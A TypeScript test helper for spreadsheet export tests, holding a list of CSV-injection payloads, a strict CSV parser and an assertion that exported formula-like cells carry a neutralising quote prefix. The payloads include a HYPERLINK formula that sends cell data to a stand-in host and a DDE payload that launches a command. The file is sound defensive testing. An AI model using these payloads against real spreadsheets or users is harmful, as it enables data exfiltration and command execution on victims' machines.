/** CSV-injection payloads and a strict reader of our CSV exports, for the export tests. */
import { expect } from "vitest";

/** The probe's payloads, and one per other dangerous first character. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=1+1",
  "@SUM(1+1)",
  "+1+1",
  "=cmd|' /C calc'!A0",
  "-1+1",
  "\t=1+1",
  "\r=1+1",
];

/** RFC 4180 reader (quoted cells, doubled quotes, line breaks inside quotes). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endCell();
    else if (c === "\n") {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== "" || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** No cell a spreadsheet would evaluate: text starting with a formula character must carry the quote prefix. */
export function expectInert(csv: string, payload: string) {
  const cells = parseCsv(csv).flat();
  for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(Number.isFinite(Number(c)), `cell ${JSON.stringify(c)} is live`).toBe(true);
  expect(cells).toContain(`'${payload}`);
}
